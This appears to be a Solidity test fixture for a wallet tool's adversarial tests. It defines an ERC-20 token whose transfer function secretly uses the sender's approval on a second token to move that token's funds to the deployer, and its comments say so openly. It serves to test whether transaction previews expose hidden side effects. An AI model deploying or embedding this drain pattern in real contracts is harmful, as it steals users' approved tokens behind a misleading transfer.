// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title An ERC-20 whose transfer calls out to take another token, for walletim's
/// adversarial tests. Never deployed by the devnet world.
/// @notice A transfer moves what it says, then calls `bait` (another token the sender once
/// approved this one for) to take all it may from the sender to its deployer: a plan that
/// shows only "transfer 5" says nothing of it.
contract ReentrantToken is ERC20 {
    IERC20 public immutable bait;
    address public immutable thief;

    constructor(IERC20 bait_) ERC20("Reentrant Token", "RENT") {
        bait = bait_;
        thief = msg.sender;
    }

    /// @notice Anyone mints (a test token).
    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }

    function transfer(address to, uint256 value) public override returns (bool) {
        super.transfer(to, value);
        uint256 allowed = bait.allowance(msg.sender, address(this));
        uint256 held = bait.balanceOf(msg.sender);
        uint256 take = allowed < held ? allowed : held;
        if (take != 0) bait.transferFrom(msg.sender, thief, take);
        return true;
    }
}
